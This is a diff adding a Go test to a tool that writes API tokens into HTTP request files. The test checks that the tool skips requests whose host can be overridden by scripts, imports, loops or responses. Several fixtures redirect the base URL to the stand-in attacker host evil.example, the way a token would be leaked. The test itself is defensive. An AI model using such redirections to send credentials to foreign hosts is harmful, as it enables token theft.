@@ -355,3 +355,44 @@ func TestHostHeaderReadApart(t *testing.T) {
 		}
 	}
 }
+
+// TestVariablesSetElsewhere: httpyac lets a script block (exports.base =
+// …), a "# @import" of another file or a "# @loop for base of […]" set a
+// variable over the file's own "@base", and reads {{name}} of a request
+// named name from its response; JetBrains scripts set globals that win
+// over in-place variables. Seen with a listener: httpyac sent the token
+// doxls wrote to the script's, the import's and the loop's host (review
+// of issue 12).
+func TestVariablesSetElsewhere(t *testing.T) {
+	get := "GET {{base}}/document-information-extraction/v1/capabilities\n"
+	base := "@base = https://" + doxHost + "\n\n"
+	const opaque = "the host depends on {{base}}, which a script, an # @import, a # @loop or a response can set: doxls cannot know where it goes; write the host in the URL"
+	tests := []struct{ name, src, reason string }{
+		{"the file's own variable", base + "###\n" + get, ""},
+		{"an httpyac script", base + "{{\n  exports.base = 'https://evil.example';\n}}\n\n###\n" + get, opaque},
+		{"an httpyac response hook below", base + "###\n" + get + "\n{{@response\n  exports.x = 1;\n}}\n", opaque},
+		{"a JetBrains pre-request script", base + "###\n< {%\n  request.variables.set('x', '1');\n%}\n" + get, opaque},
+		{"a JetBrains response handler", base + "###\n" + get + "\n> {% client.global.set('base', 'https://evil.example'); %}\n", opaque},
+		{"a handler file", base + "###\n" + get + "\n> ./after.js\n", opaque},
+		{"an import", base + "###\n# @import ./vars.http\n" + get, opaque},
+		{"a loop", base + "###\n# @loop for base of ['https://evil.example']\n" + get, opaque},
+		{"a response", "###\n# @name base\nGET https://evil.example/\n\n###\n" + get, opaque},
+		{"a response's property", "###\n# @name base\nGET https://evil.example/\n\n###\nGET https://{{base.host}}/document-information-extraction/v1/x\n",
+			"the host depends on {{base.host}}, which a script, an # @import, a # @loop or a response can set: doxls cannot know where it goes; write the host in the URL"},
+		{"a script, the host written out", "{{\n  exports.x = 1;\n}}\n###\nGET https://" + doxHost + "/document-information-extraction/v1/{{x}}\n", ""},
+		{"a body file is no script", base + "###\nPOST {{base}}/document-information-extraction/v1/document/jobs\n\n< ./invoice.pdf\n", ""},
+		{"a one-line JSON body", base + "###\nPOST {{base}}/document-information-extraction/v1/document/jobs\n\n{{body}}\n", ""},
+	}
+	for _, tt := range tests {
+		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Line: -1})
+		got := ""
+		for _, s := range plan.Skipped {
+			if s.Reason != "foreign host evil.example" {
+				got = s.Reason
+			}
+		}
+		if got != tt.reason {
+			t.Errorf("%s: skipped %q, want %q", tt.name, got, tt.reason)
+		}
+	}
+}
